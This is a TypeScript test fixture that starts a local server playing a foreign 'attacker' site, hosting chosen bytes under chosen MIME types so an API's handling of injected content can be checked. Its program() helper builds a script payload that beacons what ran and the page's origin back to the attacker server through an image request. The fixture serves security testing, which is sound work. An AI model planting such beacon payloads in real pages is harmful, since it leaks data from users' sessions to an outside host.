import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

export type Attacker = AsyncDisposable & {
  origin: string
  /** Serves these bytes with this type, without the headers of the service, and returns the URL. */
  host(mimeType: string, bytes: string | Buffer): string
  /** A program that reports `what` and its origin to the attacker, and sets the page's title. */
  program(what: string): string
  /** The programs that have run so far, as `<what>@<origin>`. */
  ran(): string[]
}

/** A foreign site, with another host name than the API. */
export async function startAttacker(): Promise<Attacker> {
  const ran: string[] = []
  const hosted: { mimeType: string; bytes: string | Buffer }[] = []
  const server = createServer((request, response) => {
    const [, kind, rest = ''] = (request.url ?? '').split('/')
    if (kind === 'ran') ran.push(decodeURIComponent(rest))
    const found = kind === 'hosted' ? hosted[Number(rest)] : undefined
    response.setHeader('content-type', found?.mimeType ?? 'text/plain')
    response.end(found?.bytes)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const origin = `http://localhost:${(server.address() as AddressInfo).port}`
  return {
    origin,
    host: (mimeType, bytes) => `${origin}/hosted/${hosted.push({ mimeType, bytes }) - 1}`,
    program: (what) =>
      `document.title='ran';(new Image).src='${origin}/ran/${encodeURIComponent(what)}'+encodeURIComponent('@'+self.origin)`,
    ran: () => [...new Set(ran)],
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}
